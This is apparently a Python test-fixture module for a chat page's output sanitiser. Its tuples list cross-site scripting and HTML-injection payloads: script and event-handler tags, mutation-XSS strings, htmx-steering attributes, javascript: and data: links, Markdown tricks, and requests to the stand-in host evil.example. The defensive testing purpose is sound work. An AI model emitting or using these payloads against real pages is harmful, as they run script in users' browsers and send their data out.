"""Text that tries to act in a reader's browser: what a model, or whoever talks to it, may write.

``steal()`` is what each tries to run; ``evil.example`` is where each tries to send something. A
test defines the one and watches for the other.
"""

from __future__ import annotations

from typing import Final

HOST: Final = "evil.example"

RUN_SCRIPTS: Final = (
    "<script>steal()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "<img src=x onerror=steal()>",
    "<svg/onload=steal()><animate onbegin=steal() attributeName=x dur=1s>",
    "<svg><script href='//evil.example/x.js'/><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
    "<math><mi xlink:href='javascript:steal()'>x</mi><maction actiontype='statusline#steal()'>y",
    "<body onload=steal()><input autofocus onfocus=steal()><details open ontoggle=steal()>",
    "<video><source onerror=steal()></video><audio src onloadstart=steal()>",
    "<marquee onstart=steal()>x</marquee><object data='javascript:steal()'></object>",
    "<embed src='javascript:steal()'><iframe srcdoc='<script>top.steal()</script>'></iframe>",
    "<a href='javascript:steal()' autofocus onfocus=steal() style=animation:x>x</a>",
    "<template><script>steal()</script></template><xmp><script>steal()</script></xmp>",
)
"""HTML that runs a script."""

MUTATE: Final = (
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src onerror=steal()>'>"
    ),
    "<svg></p><style><a id='</style><img src=1 onerror=steal()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=steal()></style>",
    "<select><iframe></select><img src=x onerror=steal()></iframe><textarea></select>",
    (
        "<!--><img src=x onerror=steal()>--> <![CDATA[<img "
        "src=x onerror=steal()>]]> <?<svg/onload=steal()>"
    ),
    "</div></article></section></main><script>steal()</script><div>",
    "</textarea></title></style></noscript></template><img src=x onerror=steal()>",
    '<a title="<img src=x onerror=steal()>">x</a> <p id=\'"><img src=x onerror=steal()>\'>',
    (
        "&lt;img src=x onerror=steal()&gt; &#60;img src=x "
        "onerror=steal()&#62; \\<img src=x onerror=steal()>"
    ),
    "\x00<\x00img src=x onerror=steal()> <im\u0000g src=x> \ufeff<svg/onload=steal()> \u2028<b>",
)
"""HTML that is harmless until a parser has read it a second time."""

STEER: Final = (
    "<hx-partial hx-target='body' hx-swap='innerHTML'><h1>Owned</h1></hx-partial>",
    "<hx-upsert hx-target='#messages'><article id='owned'>Owned</article></hx-upsert>",
    "<title>Owned</title><div id='title' hx-swap-oob='true'>Owned</div>",
    "<div hx-get='//evil.example/' hx-trigger='load'>x</div>",
    "<div data-hx-post='/chat/x/stop' hx-on:click='steal()' hx-trigger='load, mouseover'>x</div>",
    "<a hx-boost=true hx-delete='/api/sessions/x' href='/auth/sign-out'>x</a>",
    (
        "<form id=composer action=//evil.example><input "
        "name=message><button id=send>Send</button></form>"
    ),
    "<img name=getElementById><img id=question><a id=htmx><a id=htmx name=config href=x>",
    "<p id=problem class='note failed'>Sign in again</p><p class=skip id=connection>Owned</p>",
    "<template type=partial hx-target=#composer><input id=key></template>",
    "data: <hx-partial hx-target='body'>Owned</hx-partial>\r\n\r\nevent: end\rdata: x\n\nid: 0-0",
)
"""HTML that steers this page: its library, its forms, its ids."""

LOAD: Final = (
    "<meta http-equiv=refresh content='0;url=//evil.example/'><base href='//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css><link rel=dns-prefetch href=//evil.example>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/x)}</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example/x)'>x</p>",
    "<img srcset='//evil.example/x 1x'><picture><source srcset=//evil.example/x><img></picture>",
    "<iframe src=//evil.example/></iframe><object data=//evil.example/></object><frameset>",
    "<video poster=//evil.example/x src=//evil.example/y></video><track src=//evil.example/z>",
    "<svg><image href=//evil.example/x /><feImage href=//evil.example/x /></svg>",
    "![pixel](https://evil.example/pixel.png) [![x](//evil.example/x.png)](https://evil.example/)",
    "![x][y]\n\n[y]: https://evil.example/z.png 'title'",
    "<body background=//evil.example/x><table background=//evil.example/x><td>x",
)
"""What makes a browser fetch, without a click."""

LINKS: Final = (
    "[x](javascript:steal()) [x](JaVaScRiPt:steal()) [x](&#106;avascript:steal())",
    "[x](javascript&colon;steal()) [x](java&Tab;script:steal()) [x](\x01javascript:steal())",
    (
        "[x](<java\nscript:steal()>) [x](data:text/html,<script>"
        "steal()</script>) [x](vbscript:steal())"
    ),
    '<javascript:steal()> <data:text/html,x> <https://evil.example/"onclick=steal()>',
    "[x](blob:x) [x](file:///etc/passwd) [x](view-source:x) [x](about:blank) [x](//evil.example)",
    (
        "[x](https://evil.example/\"onmouseover='steal()')"
        " [x](https://evil.example 'y\" onclick=\"steal()')"
    ),
    (
        "[x][z] [x](/api/sessions/x) [x](?q=x) [x](#composer)"
        "\n\n[z]: javascript:steal() \"'onclick='steal()\""
    ),
)
"""Addresses that act when they are followed."""

IN_MARKDOWN: Final = (
    "# <img src=x onerror=steal()>\n\n> <script>steal()</script>\n\n- [x] <svg/onload=steal()>",
    (
        "| <img src=x onerror=steal()> | `<script>steal()</script>` |\n"
        "|---|---|\n| </td><script>steal()</script> | [x](javascript:steal()) |"
    ),
    (
        "```html onload=steal()\n<script>steal()</script>"
        "\n</code></pre><img src=x onerror=steal()>\n```"
    ),
    '```"><img/src/onerror=steal()>\n</span><script>steal()</script>\n```',
    "~~~python' onclick='steal()\nx = '</span></code></pre><script>steal()</script>'\n~~~",
    "    <script>steal()</script>\n\n`` <script>steal()</script> ` `` **<b onclick=steal()>x**",
    (
        'x[^1] y[^"onclick="steal()]\n\n[^1]: <img src=x onerror=steal()'
        '> [y](javascript:steal())\n\n[^"onclick="steal()]: z'
    ),
    "<details><summary onclick=steal()>x\n\n**y**\n\n</summary></details>\n\n<!-- open",
)
"""The same, inside what Markdown makes of it."""

PAYLOADS: Final = (*RUN_SCRIPTS, *MUTATE, *STEER, *LOAD, *LINKS, *IN_MARKDOWN)
